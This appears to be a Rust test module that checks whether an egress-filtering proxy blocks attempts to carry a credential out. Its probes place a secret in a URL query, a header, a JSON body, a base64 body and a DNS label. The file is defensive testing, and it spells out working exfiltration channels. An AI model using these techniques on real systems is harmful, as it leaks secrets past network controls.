//! Attempts to carry a credential out, to a host that the policy allows.

use std::net::ToSocketAddrs;

use data_encoding::BASE64;

use super::{Outcome, Plan, Probe, Seen, blocked, passed, stopped};
use crate::client::{self, Answer, Request};

pub(super) fn probes() -> Vec<Probe> {
    vec![
        stopped("secret-url", "credential in a URL", |plan, id| {
            get(&format!("{}/{id}?q={}", plan.origin, plan.secret))
        }),
        stopped("secret-header", "credential in a header", |plan, id| {
            let url = format!("{}/{id}", plan.origin);
            let header = Some(("x-note", plan.secret.as_str()));
            refused(client::send(Request {
                method: "GET",
                url: &url,
                header,
                body: "",
            }))
        }),
        stopped("secret-body", "credential in a body", |plan, id| {
            post(plan, id, &format!("{{\"note\": \"{}\"}}", plan.secret))
        }),
        stopped(
            "secret-base64",
            "credential in a body, base64",
            |plan, id| {
                let note = format!("the key is {}", plan.secret);
                post(plan, id, &BASE64.encode(note.as_bytes()))
            },
        ),
        stopped("secret-dns", "credential in a DNS label", |plan, _| match (
            format!("{}.{}", plan.secret, plan.zone),
            80,
        )
            .to_socket_addrs()
        {
            Ok(_) => passed("the name was answered"),
            Err(error) => blocked(error),
        }),
    ]
}

/// A request that must pass.
pub(super) const fn control(id: &'static str, title: &'static str) -> Probe {
    let run = |plan: &Plan, id: &str| get(&format!("{}/{id}", plan.origin));
    Probe {
        id,
        title,
        expected: Outcome::Passed,
        run,
    }
}

fn get(url: &str) -> Seen {
    refused(client::send(Request {
        method: "GET",
        url,
        ..Request::default()
    }))
}

fn post(plan: &Plan, id: &str, body: &str) -> Seen {
    let url = format!("{}/{id}", plan.origin);
    refused(client::send(Request {
        method: "POST",
        url: &url,
        header: None,
        body,
    }))
}

fn refused(answer: anyhow::Result<Answer>) -> Seen {
    match answer {
        Ok(answer) if answer.header("carboy-decision").is_some() => blocked(format_args!(
            "{} {}",
            answer.status,
            answer.header("carboy-reason").unwrap_or_default()
        )),
        Ok(answer) => passed(format_args!("status {}", answer.status)),
        Err(error) => blocked(format_args!("{error:#}")),
    }
}
